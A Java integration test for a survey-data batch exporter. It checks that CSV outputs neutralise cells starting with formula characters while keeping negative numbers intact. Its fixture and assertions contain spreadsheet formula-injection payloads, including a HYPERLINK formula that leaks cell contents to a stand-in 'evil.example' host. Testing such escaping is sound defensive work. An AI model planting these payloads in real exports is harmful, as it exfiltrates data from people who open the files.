package org.haven.analytics.it;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.haven.analytics.cli.BatchCommand;
import org.haven.analytics.it.TopicFixture.Timed;
import org.haven.testing.KafkaTestBroker;
import org.haven.events.Actor;
import org.haven.events.HavenEvent;
import org.haven.events.participant.ParticipantEnrolled;
import org.haven.events.participant.QuestionnaireSubmitted;
import org.haven.events.participant.SubmissionSource;
import org.haven.events.study.InstrumentVersionPublished;
import org.haven.events.study.StudyCreated;
import org.haven.events.study.WaveScheduled;
import org.haven.events.study.WaveWindow;
import org.haven.instrument.Composite;
import org.haven.instrument.Instrument;
import org.haven.instrument.Item;
import org.haven.instrument.Scale;
import org.haven.instrument.Subscale;
import org.haven.instrument.ValueLabel;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.kafka.test.EmbeddedKafkaKraftBroker;

import java.io.IOException;
import java.io.PrintStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * An instrument published before ids had to be letters, digits and _ (the rule applies at publication, so the topic
 * may hold one) whose item texts, value labels, item, subscale and composite ids a spreadsheet would run as
 * formulas, on a bipolar scale -3..3. The batch still reads it; no text cell of any CSV it writes starts with a
 * formula character, and every number, negative ones included, is written as it is.
 */
class FormulaCellsIT {

    private static final String STUDY = "f0f0f0f0-1234-4abc-9def-0123456789ab";
    private static final String TOPIC = "haven.survey.events.formula-cells";
    private static final Actor RESEARCHER = Actor.researcher("dr.morgan");
    private static final Map<String, String> KEY = Map.of("HAVEN_EXPORT_KEY", "formula-cells-it-export-key");
    /** What a spreadsheet reads as a number; everything else in a CSV is text. */
    private static final Pattern NUMBER = Pattern.compile("-?[0-9]+(\\.[0-9]+)?");
    private static EmbeddedKafkaKraftBroker broker;

    @TempDir
    Path work;

    @BeforeAll
    static void topicWithAnInstrumentFromBeforeTheIdRule() {
        broker = KafkaTestBroker.start();
        TopicFixture fixture = new TopicFixture(broker.getBrokersAsString());
        try {
            fixture.createTopic(TOPIC, 2);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
        fixture.publish(TOPIC, events());
    }

    @AfterAll
    static void stopBroker() {
        broker.destroy();
    }

    private static Instrument instrument() {
        Scale bipolar = new Scale("bipolar", -3, 3, List.of(new ValueLabel(-3, "@strongly disagree"),
                new ValueLabel(-2, "disagree"), new ValueLabel(-1, "somewhat disagree"), new ValueLabel(0, "neutral"),
                new ValueLabel(1, "somewhat agree"), new ValueLabel(2, "agree"), new ValueLabel(3, "strongly agree")));
        return new Instrument("=old", 1, "=Old", List.of(bipolar),
                List.of(new Subscale("@calm", "=calm"), new Subscale("trust", "trust")),
                List.of(new Item("=1+1", "@calm", "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")", false,
                                "bipolar", false),
                        new Item("calm_2", "@calm", "+1 when calm", false, "bipolar", false),
                        new Item("trust_1", "trust", "-I can rely on my partner.", false, "bipolar", false),
                        new Item("trust_2", "trust", "\tI keep checking up on my partner.", false, "bipolar", false),
                        new Item("trust_3", "trust", "\rI feel safe.", false, "bipolar", false)),
                List.of(new Composite("+safety", "mean of both", List.of("@calm", "trust"))));
    }

    /*
     * @calm = mean(=1+1, calm_2), trust = mean(trust_1..3), +safety = mean of both (nothing reverse-keyed):
     *   A w1: -3,-2 -> -2.5; -1,0,1 -> 0; -1.25        A w2: -1,-1 -> -1; 0,0,0 -> 0; -0.5
     *   B w1: -1, 0 -> -0.5; 3,3,3 -> 3; 1.25          B w2:  1, 0 -> 0.5; 3,3,2 -> 8/3
     * mean @calm: wave 1 (-2.5 - 0.5)/2 = -1.5, wave 2 (-1 + 0.5)/2 = -0.25
     */
    private static List<Timed> events() {
        List<Timed> events = new ArrayList<>();
        events.add(at(new StudyCreated(STUDY, "Formulas", false, RESEARCHER), "2027-01-01T08:00:00Z"));
        events.add(at(new WaveScheduled(STUDY, 1, new WaveWindow.AlwaysOpen(), RESEARCHER), "2027-01-01T08:00:00Z"));
        events.add(at(new WaveScheduled(STUDY, 2, new WaveWindow.AlwaysOpen(), RESEARCHER), "2027-01-01T08:00:00Z"));
        events.add(at(new InstrumentVersionPublished(STUDY, instrument(), RESEARCHER), "2027-01-01T08:00:01Z"));
        for (String p : List.of("A", "B")) {
            events.add(at(new ParticipantEnrolled(p, STUDY, Instant.parse("2027-01-02T00:00:00Z"), "v1", null,
                    RESEARCHER), "2027-01-02T00:00:00Z"));
        }
        events.add(submitted("A", 1, "2027-01-10T10:00:00Z", -3, -2, -1, 0, 1));
        events.add(submitted("B", 1, "2027-01-10T11:00:00Z", -1, 0, 3, 3, 3));
        events.add(submitted("A", 2, "2027-04-10T10:00:00Z", -1, -1, 0, 0, 0));
        events.add(submitted("B", 2, "2027-04-10T11:00:00Z", 1, 0, 3, 3, 2));
        return events;
    }

    @Test
    void no_text_cell_of_any_csv_starts_with_a_formula_character_and_numbers_stay_as_they_are() throws IOException {
        Path folder = run();

        Map<String, List<CSVRecord>> files = new TreeMap<>();
        try (Stream<Path> csvs = Files.list(folder)) {
            for (Path csv : csvs.filter(f -> f.toString().endsWith(".csv")).toList()) {
                files.put(csv.getFileName().toString(), records(csv));
            }
        }
        assertThat(files.keySet()).containsExactly("codebook.csv", "responses_long.csv", "responses_wide.csv",
                "scores_long.csv", "statistics.csv");
        List<String> negatives = new ArrayList<>();
        files.forEach((name, records) -> {
            for (CSVRecord record : records) {
                for (String cell : record) {
                    if (NUMBER.matcher(cell).matches()) {
                        if (cell.startsWith("-")) {
                            negatives.add(name + ": " + cell);
                        }
                    } else {
                        assertThat(cell).as("%s line %d", name, record.getRecordNumber())
                                .doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                                .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
                    }
                }
            }
        });
        assertThat(negatives).contains("codebook.csv: -3", "responses_long.csv: -3", "responses_wide.csv: -3",
                "scores_long.csv: -2.5", "statistics.csv: -1.5");

        List<String> codebook = Files.readAllLines(folder.resolve("codebook.csv"));
        assertThat(codebook.get(1)).isEqualTo("'=1+1,'@calm,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,"
                + "\"\"Click\"\")\",0,-3,3,'-3=@strongly disagree|-2=disagree|-1=somewhat disagree|0=neutral|"
                + "1=somewhat agree|2=agree|3=strongly agree,1,,");
        assertThat(Files.readAllLines(folder.resolve("responses_wide.csv")).get(0))
                .isEqualTo("pid,wave,'=1+1,calm_2,trust_1,trust_2,trust_3");
        assertThat(Files.readAllLines(folder.resolve("responses_long.csv")))
                .anyMatch(line -> line.matches("[0-9a-f]{16},1,'=1\\+1,-3,8"));
        assertThat(Files.readAllLines(folder.resolve("scores_long.csv")))
                .anyMatch(line -> line.matches("[0-9a-f]{16},1,'@calm,-2\\.5"))
                .anyMatch(line -> line.matches("[0-9a-f]{16},1,'\\+safety,-1\\.25"));
        List<String> statistics = Files.readAllLines(folder.resolve("statistics.csv"));
        assertThat(statistics).contains("mean,'@calm,,1,-1.5", "mean,'@calm,,2,-0.25", "n,'+safety,,1,2")
                .anyMatch(line -> line.startsWith("item_total_r,'@calm,'=1+1,1,"));
    }

    @Test
    void the_id_that_is_no_variable_name_is_mapped_in_the_manifest_and_every_syntax_file_and_r_and_pspp_load_it()
            throws Exception {
        Path folder = run();

        var manifest = new com.fasterxml.jackson.databind.ObjectMapper().readTree(folder.resolve("manifest.json").toFile());
        assertThat(manifest.get("variableNames").toString()).isEqualTo("{\"=1+1\":\"v_1_1\"}");
        for (String syntax : List.of("haven.R", "haven.sps", "haven.do")) {
            assertThat(Files.readString(folder.resolve(syntax))).as(syntax).contains("  =1+1 -> v_1_1");
        }

        List<String> r = StatisticsPrograms.run(work, StatisticsPrograms.rscript(), "-e", """
                source(commandArgs(TRUE)[1])
                cat(names(responses_wide), "\\n")
                cat(attr(responses_wide$v_1_1, "label"), "\\n")
                cat(names(attr(responses_wide$v_1_1, "labels"))[1], unname(attr(responses_wide$v_1_1, "labels"))[1], "\\n")
                cat(mean(responses_wide$v_1_1[responses_wide$wave == 1]), "\\n")
                cat(levels(scores_long$subscale), "\\n")
                """, folder.resolve("haven.R").toString());
        assertThat(r).containsExactly("pid wave v_1_1 calm_2 trust_1 trust_2 trust_3",
                "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")", "@strongly disagree -3", "-2",
                "'@calm trust '+safety");

        Path driver = work.resolve("check.sps");
        Files.writeString(driver, "INSERT FILE='" + folder.resolve("haven.sps") + "' CD=YES.\n"
                + "DISPLAY DICTIONARY /VARIABLES=v_1_1.\nLIST /VARIABLES=wave v_1_1.\n");
        Path output = work.resolve("check.csv");
        StatisticsPrograms.run(work, StatisticsPrograms.pspp(), "-O", "format=csv", "-o", output.toString(),
                driver.toString());
        String pspp = Files.readString(output);
        assertThat(pspp).doesNotContainIgnoringCase("error").doesNotContainIgnoringCase("warning")
                .contains("v_1_1,3,\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Click\"\")\"")
                .contains("-3,@strongly disagree");
        assertThat(pspp.lines().filter(line -> line.matches("[12],-?\\d")).toList())
                .containsExactlyInAnyOrder("1,-3", "1,-1", "2,-1", "2,1");
    }

    private Path run() throws IOException {
        Path out = work.resolve("out");
        int exit = BatchCommand.run(new String[] {"--bootstrap-servers=" + broker.getBrokersAsString(),
                "--topic=" + TOPIC, "--study=" + STUDY, "--out=" + out, "--haven.data-dir=" + work.resolve("repo")},
                KEY, new PrintStream(System.err, true, StandardCharsets.UTF_8));
        assertThat(exit).isZero();
        try (Stream<Path> folders = Files.list(out)) {
            List<Path> all = folders.toList();
            assertThat(all).as("one run folder").hasSize(1);
            return all.get(0);
        }
    }

    private static List<CSVRecord> records(Path csv) throws IOException {
        try (CSVParser parser = CSVFormat.RFC4180.parse(new StringReader(Files.readString(csv)))) {
            return parser.getRecords();
        }
    }

    private static Timed at(HavenEvent event, String time) {
        return new Timed(event, Instant.parse(time));
    }

    private static Timed submitted(String participant, int wave, String time, int... values) {
        List<String> items = List.of("=1+1", "calm_2", "trust_1", "trust_2", "trust_3");
        Map<String, Integer> answers = new TreeMap<>();
        for (int i = 0; i < values.length; i++) {
            answers.put(items.get(i), values[i]);
        }
        return at(new QuestionnaireSubmitted(participant, STUDY, wave, "=old", 1, answers, null,
                participant + "-" + wave, SubmissionSource.WEB, LocalDate.parse(time.substring(0, 10)),
                Actor.participant(participant)), time);
    }
}
